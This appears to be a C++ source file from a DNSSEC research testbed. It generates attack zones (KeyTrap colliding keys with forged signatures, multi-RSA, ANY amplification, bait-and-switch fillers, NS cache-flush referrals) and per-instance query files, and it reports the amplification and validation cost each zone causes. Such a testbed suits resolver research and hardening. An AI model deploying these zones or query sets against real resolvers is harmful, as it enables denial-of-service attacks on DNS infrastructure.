#include "siglab/zonegen.hpp"

#include <algorithm>
#include <array>
#include <cstdio>
#include <fstream>
#include <set>
#include <sstream>

#include "siglab/error.hpp"

namespace siglab::zonegen {

namespace {

using dnssec::KeyRole;
using wire::Bytes;
using wire::RData;

constexpr std::array<std::pair<AttackKind, std::string_view>, 6> kKindNames{{
    {AttackKind::Benign, "benign"},
    {AttackKind::BaitAndSwitch, "bait-and-switch"},
    {AttackKind::MultiRsa, "multi-rsa"},
    {AttackKind::AnyType, "any-type"},
    {AttackKind::KeyTrap, "keytrap"},
    {AttackKind::NsCacheFlush, "ns-cacheflush"},
}};

constexpr std::array<RecordType, 6> kAnyTypeOrder{RecordType::NS,  RecordType::MX,  RecordType::TXT,
                                                  RecordType::A,   RecordType::SOA, RecordType::DNSKEY};

constexpr std::size_t kInstanceDigits = 6;
constexpr std::size_t kMaxInstances = 1'000'000;

ResourceRecord make_rr(const DomainName& owner, RecordType type, std::uint32_t ttl, Bytes rdata) {
  return {owner, type, wire::kClassIn, ttl, RData(std::move(rdata))};
}

Bytes a_rdata(std::uint8_t a, std::uint8_t b, std::uint8_t c, std::uint8_t d) { return {a, b, c, d}; }

Bytes name_rdata(const DomainName& name) { return wire::encode_name(name); }

Bytes mx_rdata(std::uint16_t preference, const DomainName& exchange) {
  Bytes out;
  wire::put_u16(out, preference);
  wire::append_name(out, exchange);
  return out;
}

Bytes txt_rdata(std::string_view text) {
  Bytes out;
  out.push_back(static_cast<std::uint8_t>(text.size()));
  out.insert(out.end(), text.begin(), text.end());
  return out;
}

Bytes soa_rdata(const DomainName& mname, const DomainName& rname, std::uint32_t serial) {
  Bytes out;
  wire::append_name(out, mname);
  wire::append_name(out, rname);
  for (const std::uint32_t v : {serial, 3600u, 900u, 604800u, 86400u}) wire::put_u32(out, v);
  return out;
}

std::size_t rrsig_record_size(const DomainName& owner, const RrsigRecord& sig) {
  return owner.wire_size() + wire::kRecordFixedOctets + sig.rdata_size();
}

std::size_t set_octets(const SignedRRSet& set, const DomainName& owner) {
  std::size_t n = 0;
  for (const auto& rr : set.records) n += wire::record_wire_size(rr);
  for (const auto& sig : set.sigs) n += rrsig_record_size(owner, sig);
  return n;
}

std::size_t response_octets(const DomainName& qname, std::initializer_list<const SignedRRSet*> sets) {
  std::size_t n = wire::kHeaderOctets + wire::question_wire_size({qname, RecordType::A});
  for (const auto* set : sets) n += set_octets(*set, qname);
  return n;
}

ZoneBundle start_bundle(const DomainName& apex, AttackKind kind, InstanceLayout layout, std::string prefix,
                        std::size_t instances, std::uint64_t seed, bool is_signed) {
  if (instances > kMaxInstances) {
    throw Error(ErrorCode::ConfigError, "at most 1,000,000 instances are supported");
  }
  ZoneBundle b;
  b.apex = apex;
  b.kind = kind;
  b.layout = layout;
  b.instance_prefix = std::move(prefix);
  b.instance_count = instances;
  b.parent_zone = layout == InstanceLayout::Leaf ? apex.parent() : apex;
  if (is_signed) {
    b.parent_keys.push_back(dnssec::make_key(b.parent_zone, KeyRole::Zsk, dnssec::kAlgRsaSha256, 2048, seed));
  }
  return b;
}

/// KSK + ZSK for `zone`, the self-signed DNSKEY RRSet and the parent-signed DS.
void add_zone_keys(ZoneBundle& b, const DomainName& zone, std::uint32_t ttl, std::uint64_t seed) {
  b.keys.push_back(dnssec::make_key(zone, KeyRole::Ksk, dnssec::kAlgRsaSha256, 2048, seed));
  b.keys.push_back(dnssec::make_key(zone, KeyRole::Zsk, dnssec::kAlgRsaSha256, 2048, seed));
  auto& dnskey = b.rrsets[{zone, RecordType::DNSKEY}];
  for (const auto& key : b.keys) dnskey.records.push_back(key.to_record(ttl));
  dnskey.add_sig(dnssec::sign_rrset(dnskey.records, b.keys[0], b.window), KeyRef{false, 0});

  auto& ds = b.rrsets[{zone, RecordType::DS}];
  ds.records.push_back(dnssec::make_ds(b.keys[0], ttl));
  ds.add_sig(dnssec::sign_rrset(ds.records, b.parent_keys.at(0), b.window), KeyRef{true, 0});
}

std::string base36(std::size_t value, std::size_t width) {
  static constexpr std::string_view kDigits = "0123456789abcdefghijklmnopqrstuvwxyz";
  std::string out(width, '0');
  for (std::size_t i = width; i-- > 0 && value > 0;) {
    out[i] = kDigits[value % 36];
    value /= 36;
  }
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  return a.size() == b.size() && std::equal(a.begin(), a.end(), b.begin(), [](char x, char y) {
           return std::tolower(static_cast<unsigned char>(x)) == std::tolower(static_cast<unsigned char>(y));
         });
}

}  // namespace

std::string_view to_string(AttackKind kind) noexcept {
  for (const auto& [k, name] : kKindNames) {
    if (k == kind) return name;
  }
  return "unknown";
}

std::optional<AttackKind> attack_kind_from_string(std::string_view text) noexcept {
  for (const auto& [k, name] : kKindNames) {
    if (iequals(name, text)) return k;
  }
  return std::nullopt;
}

RecordType default_query_type(AttackKind kind) noexcept {
  switch (kind) {
    case AttackKind::BaitAndSwitch:
    case AttackKind::MultiRsa: return RecordType::DNSKEY;
    case AttackKind::AnyType: return RecordType::ANY;
    case AttackKind::Benign:
    case AttackKind::KeyTrap:
    case AttackKind::NsCacheFlush: break;
  }
  return RecordType::A;
}

void SignedRRSet::add_sig(RrsigRecord sig, std::optional<KeyRef> signer) {
  sig_rdata.emplace_back(sig.rdata());
  sigs.push_back(std::move(sig));
  signers.push_back(signer);
}

std::strong_ordering operator<=>(const PlanKey& a, const PlanKey& b) noexcept {
  if (auto c = a.name <=> b.name; c != 0) return c;
  return wire::code(a.type) <=> wire::code(b.type);
}

DomainName ZoneBundle::instance_name(std::size_t index) const {
  char digits[16];
  std::snprintf(digits, sizeof digits, "%06zu", index);
  return apex.prepend(instance_prefix + digits);
}

DomainName ZoneBundle::template_zone() const {
  if (layout == InstanceLayout::Delegated && instance_count > 0) return instance_name(0);
  return apex;
}

std::optional<std::size_t> ZoneBundle::instance_index(const DomainName& name) const {
  if (instance_count == 0 || name.label_count() <= apex.label_count() || !name.is_subdomain_of(apex)) {
    return std::nullopt;
  }
  const std::string& label = name.labels()[name.label_count() - apex.label_count() - 1];
  if (label.size() != instance_prefix.size() + kInstanceDigits ||
      !iequals(std::string_view(label).substr(0, instance_prefix.size()), instance_prefix)) {
    return std::nullopt;
  }
  std::size_t index = 0;
  for (std::size_t i = instance_prefix.size(); i < label.size(); ++i) {
    if (label[i] < '0' || label[i] > '9') return std::nullopt;
    index = index * 10 + static_cast<std::size_t>(label[i] - '0');
  }
  if (index >= instance_count) return std::nullopt;
  return index;
}

bool ZoneBundle::serves(const DomainName& name) const { return name.is_subdomain_of(apex); }

std::optional<DomainName> ZoneBundle::zone_of(const DomainName& name) const {
  if (!serves(name)) return std::nullopt;
  if (layout == InstanceLayout::Delegated) {
    if (const auto index = instance_index(name)) return instance_name(*index);
  }
  return apex;
}

std::optional<DnsMessage> ZoneBundle::respond(const DomainName& qname, RecordType qtype) const {
  if (!serves(qname)) return std::nullopt;
  const auto index = instance_index(qname);
  if (!index || *index == 0) {
    DnsMessage msg = build_response(qname, qtype, std::nullopt);
    msg.question.name = qname;
    return msg;
  }
  const auto template_name = qname.rebase(instance_name(*index), instance_name(0));
  DnsMessage msg = build_response(*template_name, qtype, index);
  msg.question.name = qname;
  return msg;
}

DnsMessage ZoneBundle::build_response(const DomainName& qname, RecordType qtype,
                                      std::optional<std::size_t> instance) const {
  DnsMessage msg;
  msg.flags.response = true;
  msg.flags.authoritative = true;
  msg.flags.large_responses = true;
  msg.question = {qname, qtype};

  const bool rename = instance && *instance != 0;
  const DomainName from = rename ? instance_name(0) : DomainName{};
  const DomainName to = rename ? instance_name(*instance) : DomainName{};
  const auto renamed = [&](const DomainName& n) { return rename ? n.rebase(from, to).value_or(n) : n; };

  const auto emit = [&](const RRSetKey& key, const SignedRRSet& set, std::vector<ResourceRecord>& out) {
    const std::uint32_t sig_ttl = set.records.empty() ? kDefaultTtl : set.records.front().ttl;
    if (!rename) {
      out.insert(out.end(), set.records.begin(), set.records.end());
      for (const auto& rdata : set.sig_rdata) {
        out.push_back({key.owner, RecordType::RRSIG, wire::kClassIn, sig_ttl, rdata});
      }
      return;
    }
    const DomainName owner = renamed(key.owner);
    const std::size_t first = out.size();
    for (const auto& rr : set.records) {
      ResourceRecord copy = rr;
      copy.owner = owner;
      out.push_back(std::move(copy));
    }
    std::optional<Digest> digest;
    for (std::size_t i = 0; i < set.sigs.size(); ++i) {
      const auto& sig = set.sigs[i];
      if (const auto& signer = set.signers[i]) {
        if (!digest) {
          digest = dnssec::rrset_digest(std::span<const ResourceRecord>(out).subspan(first, set.records.size()));
        }
        RrsigRecord fresh = sig;
        fresh.signer = renamed(sig.signer);
        const auto& key_set = signer->parent ? parent_keys : keys;
        fresh.signature = RData(dnssec::signature_for(*digest, fresh, key_set.at(signer->index)));
        out.push_back({owner, RecordType::RRSIG, wire::kClassIn, sig_ttl, RData(fresh.rdata())});
      } else if (sig.signer.is_subdomain_of(from)) {
        RrsigRecord fresh = sig;
        fresh.signer = renamed(sig.signer);
        out.push_back({owner, RecordType::RRSIG, wire::kClassIn, sig_ttl, RData(fresh.rdata())});
      } else {
        out.push_back({owner, RecordType::RRSIG, wire::kClassIn, sig_ttl, set.sig_rdata[i]});
      }
    }
  };

  if (qtype == RecordType::ANY) {
    for (const auto& [key, set] : rrsets) {
      if (key.owner == qname && key.type != RecordType::DS) emit(key, set, msg.answers);
    }
    return msg;
  }
  if (const auto it = rrsets.find({qname, qtype}); it != rrsets.end()) {
    emit(it->first, it->second, msg.answers);
    return msg;
  }
  if (const auto it = rrsets.find({qname, RecordType::NS}); it != rrsets.end() && qname != template_zone()) {
    msg.flags.authoritative = false;
    emit(it->first, it->second, msg.authority);
    return msg;
  }
  const bool name_exists = std::any_of(rrsets.begin(), rrsets.end(), [&](const auto& entry) {
    return entry.first.owner.is_subdomain_of(qname);
  });
  if (!name_exists) msg.flags.rcode = wire::Rcode::NxDomain;
  return msg;
}

void ZoneBundle::finalize() {
  for (auto& [key, set] : rrsets) {
    std::optional<Digest> digest;
    set.signers.assign(set.sigs.size(), std::nullopt);
    set.sig_rdata.clear();
    for (std::size_t i = 0; i < set.sigs.size(); ++i) {
      const auto& sig = set.sigs[i];
      set.sig_rdata.emplace_back(sig.rdata());
      const auto try_keys = [&](const std::vector<DnsKeyRecord>& candidates, bool parent) {
        for (std::size_t k = 0; k < candidates.size(); ++k) {
          const auto& cand = candidates[k];
          if (cand.keytag != sig.keytag || cand.algorithm != sig.algorithm) continue;
          if (!digest) digest = dnssec::rrset_digest(set.records);
          if (dnssec::verify(*digest, sig, cand)) {
            set.signers[i] = KeyRef{parent, k};
            return true;
          }
        }
        return false;
      };
      if (!try_keys(keys, false)) try_keys(parent_keys, true);
    }
  }

  response_plans.clear();
  std::set<DomainName> owners;
  for (const auto& [key, set] : rrsets) {
    response_plans[{key.owner, key.type}] = build_response(key.owner, key.type, std::nullopt);
    owners.insert(key.owner);
  }
  if (instance_count > 0) {
    const DomainName first = instance_name(0);
    const RecordType attack_type = default_query_type(kind);
    if (!response_plans.contains({first, attack_type})) {
      response_plans[{first, attack_type}] = build_response(first, attack_type, std::nullopt);
    }
  }
  parent_ds_response = build_response(template_zone(), RecordType::DS, std::nullopt);
  for (const auto& [plan, msg] : response_plans) {
    const std::size_t size = wire::message_wire_size(msg);
    if (size > wire::kMaxMessageOctets) {
      throw Error(ErrorCode::MessageTooLarge, "planned response for " + plan.name.to_string() + " " +
                                                  std::string(wire::to_string(plan.type)) + " is " +
                                                  std::to_string(size) + " octets");
    }
  }
}

std::vector<ResourceRecord> ZoneBundle::all_records() const {
  std::vector<ResourceRecord> out;
  for (const auto& [key, set] : rrsets) {
    out.insert(out.end(), set.records.begin(), set.records.end());
    const std::uint32_t ttl = set.records.empty() ? kDefaultTtl : set.records.front().ttl;
    for (const auto& rdata : set.sig_rdata) out.push_back({key.owner, RecordType::RRSIG, wire::kClassIn, ttl, rdata});
  }
  return out;
}

ZoneBundle gen_benign_zone(const DomainName& apex, std::size_t n_names, std::uint64_t seed) {
  if (n_names == 0) throw Error(ErrorCode::ConfigError, "a benign zone needs at least one name");
  ZoneBundle b = start_bundle(apex, AttackKind::Benign, InstanceLayout::Leaf, "benign-", n_names, seed, true);
  add_zone_keys(b, apex, kDefaultTtl, seed);
  const DomainName leaf = b.instance_name(0);
  auto& a = b.rrsets[{leaf, RecordType::A}];
  a.records.push_back(make_rr(leaf, RecordType::A, kDefaultTtl, a_rdata(192, 0, 2, 1)));
  a.add_sig(dnssec::sign_rrset(a.records, b.keys[1], b.window), KeyRef{false, 1});
  b.finalize();
  return b;
}

ZoneBundle gen_bait_switch_zone(const DomainName& apex, std::size_t target_size, const GenOptions& options) {
  if (target_size > wire::kMaxMessageOctets) {
    throw Error(ErrorCode::MessageTooLarge, "target size exceeds 65,535 octets");
  }
  if (target_size < 2000) throw Error(ErrorCode::TargetTooSmall, "target size below 2,000 octets");
  ZoneBundle b = start_bundle(apex, AttackKind::BaitAndSwitch, InstanceLayout::Delegated, options.prefix,
                              std::max<std::size_t>(options.instances, 1), options.seed, true);
  const DomainName zone = b.instance_name(0);
  add_zone_keys(b, zone, options.ttl, options.seed);
  auto& a = b.rrsets[{zone, RecordType::A}];
  a.records.push_back(make_rr(zone, RecordType::A, options.ttl, a_rdata(192, 0, 2, 53)));
  a.add_sig(dnssec::sign_rrset(a.records, b.keys[1], b.window), KeyRef{false, 1});

  // One valid signature plus one unknown-algorithm filler per response, the
  // filler solved so the whole response lands exactly on target_size.
  const std::size_t forged_fixed =
      zone.wire_size() + wire::kRecordFixedOctets + dnssec::kRrsigFixedOctets + apex.wire_size();
  for (const RecordType type : {RecordType::A, RecordType::DNSKEY, RecordType::DS}) {
    auto& set = b.rrsets.at({zone, type});
    const std::size_t base = response_octets(zone, {&set});
    if (target_size < base + forged_fixed + 1) {
      throw Error(ErrorCode::TargetTooSmall, "target " + std::to_string(target_size) + " cannot hold the " +
                                                 std::string(wire::to_string(type)) + " response");
    }
    const std::size_t filler = target_size - base - forged_fixed;
    set.add_sig(dnssec::forge_rrsig({zone, type}, set.sigs.front().keytag, dnssec::kAlgPrivate, filler, apex,
                                    options.ttl, b.window),
                std::nullopt);
  }
  b.finalize();
  return b;
}

std::size_t multi_rsa_full_pairing_limit(const DomainName& zone) {
  const std::size_t key_record = zone.wire_size() + wire::kRecordFixedOctets + dnssec::kDnskeyFixedOctets + 516;
  const std::size_t sig_record =
      zone.wire_size() + wire::kRecordFixedOctets + dnssec::kRrsigFixedOctets + zone.wire_size() + 512;
  const std::size_t base = wire::kHeaderOctets + zone.wire_size() + 4;
  return (wire::kMaxMessageOctets - base) / (key_record + sig_record);
}

ZoneBundle gen_multi_rsa_zone(const DomainName& apex, std::size_t n_keys, const GenOptions& options) {
  if (n_keys == 0 || n_keys > kMaxRecordsPerRRSet) {
    throw Error(ErrorCode::TooManyKeys, "multi-RSA key count must be within [1, 100]");
  }
  ZoneBundle b = start_bundle(apex, AttackKind::MultiRsa, InstanceLayout::Delegated, options.prefix,
                              std::max<std::size_t>(options.instances, 1), options.seed, true);
  const DomainName zone = b.instance_name(0);
  std::set<std::uint16_t> tags;
  for (std::uint64_t variant = 0; b.keys.size() < n_keys; ++variant) {
    const KeyRole role = b.keys.empty() ? KeyRole::Ksk : KeyRole::Zsk;
    auto key = dnssec::make_key(zone, role, dnssec::kAlgRsaSha256, 4096, options.seed * 1'000'003 + variant);
    if (tags.insert(key.keytag).second) b.keys.push_back(std::move(key));
  }
  auto& dnskey = b.rrsets[{zone, RecordType::DNSKEY}];
  for (const auto& key : b.keys) dnskey.records.push_back(key.to_record(options.ttl));

  // One RSA-4096 signature per key for as many keys as the ceiling allows.
  const std::size_t base = response_octets(zone, {&dnskey});
  const std::size_t sig_record = zone.wire_size() + wire::kRecordFixedOctets + dnssec::kRrsigFixedOctets +
                                 zone.wire_size() + b.keys.front().modeled_signature_size;
  const std::size_t room = base < wire::kMaxMessageOctets ? (wire::kMaxMessageOctets - base) / sig_record : 0;
  const std::size_t n_sigs = std::min(n_keys, room);
  if (n_sigs == 0) throw Error(ErrorCode::MessageTooLarge, "no room for a DNSKEY signature");
  for (std::size_t i = 0; i < n_sigs; ++i) {
    dnskey.add_sig(dnssec::sign_rrset(dnskey.records, b.keys[i], b.window), KeyRef{false, i});
  }

  auto& ds = b.rrsets[{zone, RecordType::DS}];
  ds.records.push_back(dnssec::make_ds(b.keys[0], options.ttl));
  ds.add_sig(dnssec::sign_rrset(ds.records, b.parent_keys[0], b.window), KeyRef{true, 0});

  const std::size_t zsk = n_keys > 1 ? 1 : 0;
  auto& a = b.rrsets[{zone, RecordType::A}];
  a.records.push_back(make_rr(zone, RecordType::A, options.ttl, a_rdata(192, 0, 2, 54)));
  a.add_sig(dnssec::sign_rrset(a.records, b.keys[zsk], b.window), KeyRef{false, zsk});
  b.finalize();
  return b;
}

ZoneBundle gen_any_zone(const DomainName& apex, std::size_t n_types, std::size_t sigs_per_type,
                        const GenOptions& options) {
  if (n_types == 0 || n_types > kAnyTypeOrder.size()) {
    throw Error(ErrorCode::ConfigError, "ANY zone type count must be within [1, 6]");
  }
  if (sigs_per_type == 0) throw Error(ErrorCode::ConfigError, "at least one signature per type is required");
  sigs_per_type = std::min(sigs_per_type, kMaxRecordsPerRRSet);

  ZoneBundle b = start_bundle(apex, AttackKind::AnyType, InstanceLayout::Leaf, options.prefix,
                              std::max<std::size_t>(options.instances, 1), options.seed, true);
  add_zone_keys(b, apex, options.ttl, options.seed);
  const DomainName leaf = b.instance_name(0);
  const auto& zsk = b.keys[1];

  std::vector<RecordType> types(kAnyTypeOrder.begin(), kAnyTypeOrder.begin() + static_cast<std::ptrdiff_t>(n_types));
  for (const RecordType type : types) {
    Bytes rdata;
    switch (type) {
      case RecordType::NS: rdata = name_rdata(apex.prepend("ns1")); break;
      case RecordType::MX: rdata = mx_rdata(10, apex.prepend("mail")); break;
      case RecordType::TXT: rdata = txt_rdata("v=spf1 -all"); break;
      case RecordType::A: rdata = a_rdata(192, 0, 2, 66); break;
      case RecordType::SOA: rdata = soa_rdata(apex.prepend("ns1"), apex.prepend("hostmaster"), 2025010101); break;
      default:
        rdata = dnssec::make_key(leaf, KeyRole::Zsk, dnssec::kAlgRsaSha256, 1024, options.seed + 7).rdata();
        break;
    }
    auto& set = b.rrsets[{leaf, type}];
    set.records.push_back(make_rr(leaf, type, options.ttl, std::move(rdata)));
    set.add_sig(dnssec::sign_rrset(set.records, zsk, b.window), KeyRef{false, 1});
  }

  // Auto-scale filler signatures so the ANY response packs to the ceiling.
  const std::size_t forged_per_type = sigs_per_type - 1;
  const std::size_t forged_total = forged_per_type * types.size();
  if (forged_total > 0) {
    std::size_t base = wire::kHeaderOctets + leaf.wire_size() + 4;
    for (const RecordType type : types) base += set_octets(b.rrsets.at({leaf, type}), leaf);
    const std::size_t fixed =
        leaf.wire_size() + wire::kRecordFixedOctets + dnssec::kRrsigFixedOctets + apex.wire_size();
    if (base + forged_total * (fixed + 1) > wire::kMaxMessageOctets) {
      throw Error(ErrorCode::MessageTooLarge, "too many signatures for one ANY response");
    }
    const std::size_t room = wire::kMaxMessageOctets - base - forged_total * fixed;
    const std::size_t each = room / forged_total;
    const std::size_t extra = room % forged_total;
    std::size_t j = 0;
    for (const RecordType type : types) {
      auto& set = b.rrsets.at({leaf, type});
      for (std::size_t s = 0; s < forged_per_type; ++s, ++j) {
        auto forged = dnssec::forge_rrsig({leaf, type}, zsk.keytag, dnssec::kAlgPrivate, each + (j < extra ? 1 : 0),
                                          apex, options.ttl, b.window);
        forged.inception += static_cast<std::uint32_t>(s);
        set.add_sig(std::move(forged), std::nullopt);
      }
    }
  }
  b.finalize();
  return b;
}

ZoneBundle gen_keytrap_zone(const DomainName& apex, std::size_t n_keys, std::size_t n_sigs, const GenOptions& options,
                            std::size_t modeled_bits, std::optional<std::uint16_t> target_tag) {
  if (n_keys == 0 || n_sigs == 0 || n_keys > kMaxRecordsPerRRSet || n_sigs > kMaxRecordsPerRRSet) {
    throw Error(ErrorCode::TooManyKeys, "KeyTrap key and signature counts must be within [1, 100]");
  }
  ZoneBundle b = start_bundle(apex, AttackKind::KeyTrap, InstanceLayout::Delegated, options.prefix,
                              std::max<std::size_t>(options.instances, 1), options.seed, true);
  const DomainName zone = b.instance_name(0);
  const std::uint16_t tag = target_tag.value_or(static_cast<std::uint16_t>(0x4B54 ^ (options.seed & 0xFFFF)));
  b.keys = dnssec::craft_colliding_keys(n_keys, tag, dnssec::kAlgRsaSha256, modeled_bits, zone, options.seed);

  auto& dnskey = b.rrsets[{zone, RecordType::DNSKEY}];
  for (const auto& key : b.keys) dnskey.records.push_back(key.to_record(options.ttl));
  auto& a = b.rrsets[{zone, RecordType::A}];
  a.records.push_back(make_rr(zone, RecordType::A, options.ttl, a_rdata(192, 0, 2, 55)));
  for (auto* set : {&dnskey, &a}) {
    const RecordType covered = set->records.front().type;
    for (std::size_t s = 0; s < n_sigs; ++s) {
      auto forged = dnssec::forge_rrsig({zone, covered}, tag, dnssec::kAlgRsaSha256,
                                        b.keys.front().modeled_signature_size, zone, options.ttl, b.window);
      forged.inception += static_cast<std::uint32_t>(s);
      set->add_sig(std::move(forged), std::nullopt);
    }
  }
  auto& ds = b.rrsets[{zone, RecordType::DS}];
  ds.records.push_back(dnssec::make_ds(b.keys[0], options.ttl));
  ds.add_sig(dnssec::sign_rrset(ds.records, b.parent_keys[0], b.window), KeyRef{true, 0});
  b.finalize();
  return b;
}

ZoneBundle gen_ns_cacheflush_zone(const DomainName& apex, std::size_t n_ns, const GenOptions& options) {
  if (n_ns == 0) throw Error(ErrorCode::ConfigError, "at least one NS record is required");
  ZoneBundle b = start_bundle(apex, AttackKind::NsCacheFlush, InstanceLayout::Leaf, options.prefix,
                              std::max<std::size_t>(options.instances, 1), options.seed, false);
  const DomainName leaf = b.instance_name(0);
  std::size_t width = 1;
  for (std::size_t reach = 36; reach < n_ns; reach *= 36) ++width;
  // Targets are single-label names "n<base36>"; the count is clamped to what
  // one uncompressed referral can carry.
  const std::size_t record = leaf.wire_size() + wire::kRecordFixedOctets + (1 + 1 + width + 1);
  const std::size_t base = wire::kHeaderOctets + leaf.wire_size() + 4;
  const std::size_t count = std::min(n_ns, (wire::kMaxMessageOctets - base) / record);
  auto& ns = b.rrsets[{leaf, RecordType::NS}];
  for (std::size_t i = 0; i < count; ++i) {
    ns.records.push_back(
        make_rr(leaf, RecordType::NS, options.ttl, name_rdata(DomainName({"n" + base36(i, width)}))));
  }
  b.finalize();
  return b;
}

PackReport pack_report(const ZoneBundle& bundle, double baseline_size) {
  PackReport report;
  report.kind = bundle.kind;
  report.baseline_octets = baseline_size;
  report.key_count = bundle.keys.size();
  for (const auto& [plan, msg] : bundle.response_plans) {
    const std::size_t size = wire::message_wire_size(msg);
    report.responses.push_back({plan, size, msg.record_count()});
    report.max_response_octets = std::max(report.max_response_octets, size);
  }
  for (const auto& [key, set] : bundle.rrsets) {
    report.rrset_record_counts[key] = set.records.size();
    report.rrset_signature_total += set.sigs.size();
  }

  // Walk one fresh resolution the way a validator would: DNSKEY, DS, answer.
  const DomainName qname = bundle.instance_count > 0 ? bundle.instance_name(0) : bundle.apex;
  const RecordType qtype = default_query_type(bundle.kind);
  const DomainName zone = bundle.zone_of(qname).value_or(bundle.apex);
  std::vector<DnsMessage> fetched{*bundle.respond(qname, qtype)};
  if (bundle.is_signed()) {
    fetched.push_back(*bundle.respond(zone, RecordType::DS));
    if (!(qtype == RecordType::DNSKEY && qname == zone)) fetched.push_back(*bundle.respond(zone, RecordType::DNSKEY));
  }
  for (const auto& msg : fetched) {
    report.resolution_octets +=
        wire::message_wire_size(msg) - wire::kHeaderOctets - wire::question_wire_size(msg.question);
  }
  for (const auto& [key, set] : bundle.rrsets) {
    for (std::size_t i = 0; i < set.sigs.size(); ++i) {
      if (set.signers[i]) continue;
      const bool in_resolution = std::any_of(fetched.begin(), fetched.end(), [&](const DnsMessage& msg) {
        return std::any_of(msg.answers.begin(), msg.answers.end(), [&](const ResourceRecord& rr) {
                 return rr.type == key.type && rr.owner == key.owner;
               }) ||
               std::any_of(msg.authority.begin(), msg.authority.end(), [&](const ResourceRecord& rr) {
                 return rr.type == key.type && rr.owner == key.owner;
               });
      });
      if (in_resolution) report.bogus_octets += rrsig_record_size(key.owner, set.sigs[i]);
    }
  }

  if (bundle.is_signed()) {
    const auto attempts_for = [&](const RRSetKey& key, const std::vector<DnsKeyRecord>& keys) {
      const auto it = bundle.rrsets.find(key);
      if (it == bundle.rrsets.end()) return dnssec::ValidationOutcome{};
      return dnssec::validate_rrset(it->second.records, it->second.sigs, keys);
    };
    const auto dnskey = attempts_for({bundle.template_zone(), RecordType::DNSKEY}, bundle.keys);
    report.validation_attempts += dnskey.attempts;
    if (dnskey.status != dnssec::ValidationStatus::Bogus) {
      report.validation_attempts += attempts_for({bundle.template_zone(), RecordType::DS}, bundle.parent_keys).attempts;
      const DomainName template_q = qname;
      for (const auto& [key, set] : bundle.rrsets) {
        if (key.owner != template_q || key.type == RecordType::DS) continue;
        if (qtype != RecordType::ANY && key.type != qtype) continue;
        if (key.type == RecordType::DNSKEY && key.owner == bundle.template_zone()) continue;
        report.validation_attempts += dnssec::validate_rrset(set.records, set.sigs, bundle.keys).attempts;
      }
    }
  }
  if (bundle.kind == AttackKind::MultiRsa && report.key_count > 0) {
    const auto it = bundle.response_plans.find({bundle.template_zone(), RecordType::DNSKEY});
    if (it != bundle.response_plans.end()) {
      report.per_key_octets =
          static_cast<double>(wire::message_wire_size(it->second)) / static_cast<double>(report.key_count);
    }
  }
  report.amplification = static_cast<double>(report.max_response_octets) / baseline_size;
  return report;
}

std::vector<wire::Question> instance_queries(const ZoneBundle& bundle, RecordType type,
                                             std::optional<std::size_t> limit) {
  std::vector<wire::Question> out;
  const std::size_t n = std::min(std::max<std::size_t>(bundle.instance_count, 1), limit.value_or(SIZE_MAX));
  out.reserve(n);
  if (bundle.instance_count == 0) {
    out.push_back({bundle.apex, type});
    return out;
  }
  for (std::size_t i = 0; i < n; ++i) out.push_back({bundle.instance_name(i), type});
  return out;
}

void write_query_file(const std::filesystem::path& path, std::span<const wire::Question> queries) {
  std::ofstream out(path, std::ios::trunc);
  if (!out) throw Error(ErrorCode::Io, "cannot open " + path.string() + " for writing");
  for (const auto& q : queries) out << q.name.to_string() << ' ' << wire::to_string(q.type) << '\n';
  if (!out) throw Error(ErrorCode::Io, "write failed on " + path.string());
}

std::vector<wire::Question> read_query_file(const std::filesystem::path& path) {
  std::ifstream in(path);
  if (!in) throw Error(ErrorCode::Io, "cannot open " + path.string());
  std::vector<wire::Question> out;
  std::string line;
  std::size_t line_no = 0;
  while (std::getline(in, line)) {
    ++line_no;
    if (const auto hash = line.find('#'); hash != std::string::npos) line.erase(hash);
    std::istringstream fields(line);
    std::string name;
    std::string type;
    if (!(fields >> name)) continue;
    if (!(fields >> type)) type = "A";
    const auto rtype = wire::record_type_from_string(type);
    if (!rtype) throw Error(ErrorCode::ParseError, path.string() + ": unknown type " + type, line_no);
    try {
      out.push_back({DomainName::parse(name), *rtype});
    } catch (const Error& e) {
      throw Error(ErrorCode::ParseError, path.string() + ": " + e.what(), line_no);
    }
  }
  return out;
}

}  // namespace siglab::zonegen
